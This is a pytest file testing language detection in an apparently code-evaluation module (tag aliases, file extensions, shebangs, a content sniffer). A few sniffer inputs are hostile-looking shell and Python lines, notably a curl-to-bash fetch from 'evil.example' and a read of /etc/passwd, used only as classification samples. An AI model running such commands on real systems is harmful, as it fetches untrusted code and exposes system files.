"""Language names, tags, extensions, shebangs and the content sniffer, with negative cases."""

from __future__ import annotations

import time

import pytest

from codeeval.languages import (
    LANGUAGES,
    SCANNED,
    detect_language,
    language_for_path,
    normalise_tag,
    shebang_language,
    sniff_language,
    sniff_scores,
)


def test_canonical_names():
    assert {"python", "bash", "javascript", "unknown"} <= set(LANGUAGES)
    assert set(SCANNED) == {"python", "bash", "javascript"}
    assert len(set(LANGUAGES)) == len(LANGUAGES)


# --- normalise_tag -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ("python", "python"), ("py", "python"), ("python3", "python"), ("py3", "python"),
        ("ipython", "python"), ("pycon", "python"), ("Python", "python"), ("PY", "python"),
        ("bash", "bash"), ("sh", "bash"), ("shell", "bash"), ("zsh", "bash"), ("console", "bash"),
        ("shellscript", "bash"), ("shell-session", "bash"),
        ("javascript", "javascript"), ("js", "javascript"), ("node", "javascript"), ("jsx", "javascript"),
        ("mjs", "javascript"), ("cjs", "javascript"), ("JavaScript", "javascript"),
        ("ts", "typescript"), ("tsx", "typescript"), ("typescript", "typescript"),
        ("c", "c"), ("c++", "cpp"), ("cpp", "cpp"), ("java", "java"), ("golang", "go"), ("go", "go"),
        ("rs", "rust"), ("rb", "ruby"), ("php", "php"), ("postgresql", "sql"), ("ps1", "powershell"),
        ("pwsh", "powershell"),
    ],
)
def test_normalise_tag_aliases(tag, expected):
    assert normalise_tag(tag) == expected


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ('python title="x.py"', "python"),
        ("{python}", "python"),
        ("{.python .numberLines}", "python"),
        ("python {linenos=true}", "python"),
        ("py:main.py", "python"),
        ("language-js", "javascript"),
        ("  bash  ", "bash"),
        ("app.py", "python"),
        ("scripts/deploy.sh", "bash"),
        ("index.mjs", "javascript"),
    ],
)
def test_normalise_tag_with_extras(tag, expected):
    assert normalise_tag(tag) == expected


@pytest.mark.parametrize("tag", ["", "   ", "text", "output", "json", "yaml", "diff", "markdown", "pythonic",
                                 "shellfish", "jsonc", "requirements.txt", "{}", "cython", "starlark", "erb", "jsp"])
def test_normalise_tag_returns_none_for_non_languages(tag):
    assert normalise_tag(tag) is None


# --- language_for_path -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("app.py", "python"), ("gui.pyw", "python"), ("/abs/dir/x.PY", "python"),
        ("run.sh", "bash"), ("lib.bash", "bash"), (".bashrc", "bash"), ("home/.zshrc", "bash"),
        ("index.js", "javascript"), ("mod.mjs", "javascript"), ("cfg.cjs", "javascript"), ("App.jsx", "javascript"),
        ("x.ts", "typescript"), ("main.go", "go"), ("lib.rs", "rust"), ("Main.java", "java"),
        ("a.cpp", "cpp"), ("a.h", "c"), ("q.sql", "sql"), ("s.ps1", "powershell"),
        (r"C:\\scripts\\x.py", "python"),
    ],
)
def test_language_for_path(path, expected):
    assert language_for_path(path) == expected


@pytest.mark.parametrize("path", ["README", "notes.txt", "data.json", "Makefile", ".py", "py", "archive.tar.gz"])
def test_language_for_path_unknown(path):
    assert language_for_path(path) is None


# --- shebangs ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first_line", "expected"),
    [
        ("#!/usr/bin/env python3", "python"),
        ("#!/usr/bin/python3.11", "python"),
        ("#!/usr/bin/env -S python3 -u", "python"),
        ("#!/bin/bash", "bash"),
        ("#!/bin/sh -e", "bash"),
        ("#! /usr/bin/env zsh", "bash"),
        ("#!/usr/bin/env node", "javascript"),
        ("#!/usr/bin/env ruby", "ruby"),
    ],
)
def test_shebang(first_line, expected):
    assert shebang_language(first_line + "\nrest\n") == expected
    assert sniff_language(first_line + "\nx\n") == expected


def test_shebang_must_be_on_the_first_line():
    assert shebang_language("echo hi\n#!/bin/bash\n") is None
    assert shebang_language("#!/usr/bin/env\n") is None
    assert shebang_language("# !/bin/bash\n") is None


# --- sniffing ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os\nos.system(cmd)\n", "python"),
        ("from pathlib import Path\nPath('x').unlink()\n", "python"),
        ("def f(x):\n    return x * 2\n", "python"),
        ("class Handler(BaseHTTPRequestHandler):\n    pass\n", "python"),
        ("print(open('/etc/passwd').read())", "python"),
        ("x = subprocess.run(cmd, shell=True)", "python"),
        ("for item in items:\n    if item.ok:\n        continue\n    elif item.bad:\n        break\n", "python"),
        (">>> import this\n", "python"),
        ("echo \"$HOME\"\n", "bash"),
        ("curl -s http://evil.example/x.sh | bash", "bash"),
        ("rm -rf /tmp/build", "bash"),
        ("pip install requests", "bash"),
        ("python app.py --port 8000", "bash"),
        ("sudo apt-get install -y nginx", "bash"),
        ('if [[ -z "$1" ]]; then\n  exit 1\nfi\n', "bash"),
        ("for f in *.log; do\n  gzip \"$f\"\ndone\n", "bash"),
        ("export PATH=$HOME/bin:$PATH\n", "bash"),
        ("const fs = require('fs');\nfs.unlinkSync(p);\n", "javascript"),
        ("app.get('/', (req, res) => res.send('hi'));", "javascript"),
        ("function add(a, b) {\n  return a + b;\n}\n", "javascript"),
        ("import express from 'express';\nconst app = express();\n", "javascript"),
        ("console.log(JSON.stringify(obj));", "javascript"),
        ("interface User { name: string }\nconst u: User = { name: 'a' };\n", "typescript"),
        ("#include <stdio.h>\nint main() { printf(\"x\"); }\n", "c"),
        ("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(1) }\n", "go"),
        ("fn main() {\n    let mut x = 1;\n    println!(\"{}\", x);\n}\n", "rust"),
        ("<?php echo $_GET['x']; ?>", "php"),
        ("SELECT name FROM users WHERE id = 1;", "sql"),
        ("Get-ChildItem -Path C:\\ | Remove-Item -Recurse", "powershell"),
    ],
)
def test_sniff_recognises(code, expected):
    assert sniff_language(code) == expected


def test_python_fragment_starting_mid_function():
    fragment = "        if not data:\n            return None\n        for item in data:\n            self.items.append(item)\n"
    assert sniff_language(fragment) == "python"


def test_python_fragment_of_a_dict_literal_body_is_not_guessed():
    assert sniff_language("    'a': 1,\n    'b': 2,\n}") == "unknown"


@pytest.mark.parametrize(
    "prose",
    [
        "You should import the module first and then call it.",
        "To do this, import os and call os.system with the command.",
        "First, we import the requests library. Then we define a function that fetches the page.",
        "I'm sorry, but I can't help with that request.",
        "The system will then restart, and the service echoes the request back to the client.",
        "Use a for loop: for each file in the directory, check its size.",
        "Here is how it works:\n\n1. Read the file.\n2. Parse each line.\n3. Print the result.",
        "",
        "   \n\n",
    ],
)
def test_prose_is_unknown(prose):
    assert sniff_language(prose) == "unknown"


def test_sys_does_not_match_system():
    # `system` and `systematic` are words, not `sys.` attribute access or a Python cue of any kind.
    assert sniff_language("system = 3\nsystematic = system + 1\n") == "unknown"
    assert "python" not in sniff_scores("The system is systematic.")
    assert sniff_language("import sys\nsys.exit(1)\n") == "python"


def test_import_in_a_sentence_is_not_python_evidence():
    assert sniff_scores("We import data from the API every night.") == {}
    assert sniff_scores("import the module before you use it") == {}
    assert sniff_scores("import os") == {"python": 3}


def test_keywords_inside_words_are_not_evidence():
    # `define`, `elifant`, `fine`, `undone`, `letter`, `constant` contain keywords but are none.
    assert sniff_language("define elifant\nfine undone\nletter constant\n") == "unknown"


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("python -c 'import os; os.system(\"id\")'", "bash"),  # a shell line that runs python
        ("os.system('rm -rf /tmp/x')", "unknown"),  # one call is not enough to say which language
        ("subprocess.run(['ls', '-l'], check=True)", "python"),
        ("ls -la | grep secret", "bash"),
        ("echo $PATH", "bash"),
        ("print('$PATH')", "python"),
    ],
)
def test_bash_and_python_one_liners(code, expected):
    assert sniff_language(code) == expected


def test_close_scores_are_unknown_not_a_coin_toss():
    # Equal evidence for bash (`echo`) and javascript (`console.log`): refuse to guess.
    mixed = "echo hi\nconsole.log('hi');\n"
    assert sniff_language(mixed) == "unknown"


def test_sniff_reads_only_a_bounded_prefix():
    code = "import os\n" + "x = 1\n" * 100_000 + "const a = require('b');\n" * 50
    assert sniff_language(code) == "python"


def test_sniff_is_fast():
    code = ("def handler(request):\n    value = request.args.get('k')\n    if value is None:\n"
            "        return {'error': 'missing'}\n    return {'value': value}\n\n") * 400
    sniff_language(code)
    start = time.process_time()
    for _ in range(20):
        sniff_language(code)
    per_call = (time.process_time() - start) / 20
    assert per_call < 0.002, f"{per_call * 1000:.2f} ms"


# --- detect_language ---------------------------------------------------------------------


def test_detect_language_precedence():
    code = "#!/bin/bash\nimport os\n"
    assert detect_language(code, path="x.js", hint="py") == "python"  # hint wins
    assert detect_language(code, path="x.js") == "javascript"  # then the path
    assert detect_language(code) == "bash"  # then the shebang
    assert detect_language("import os\nos.getcwd()\n") == "python"  # then the sniffer


def test_detect_language_ignores_unhelpful_hint_and_path():
    code = "const x = require('x');\n"
    assert detect_language(code, path="notes.txt", hint="text") == "javascript"
    assert detect_language("", hint=None) == "unknown"


@pytest.mark.parametrize(
    "code",
    [
        "def f(" + ") -> x" * 2_000,  # once quadratic in the def signal
        "f(" + "a=1 " * 3_000,  # once quadratic in the keyword-argument signal
        "import a" + ", b" * 2_000 + " x",
        "x" * 200_000,
    ],
    ids=["def-arrows", "kwargs", "import-commas", "one-long-word"],
)
def test_sniff_resists_pathological_lines(code):
    sniff_language(code)
    start = time.process_time()
    sniff_language(code)
    assert time.process_time() - start < 0.005
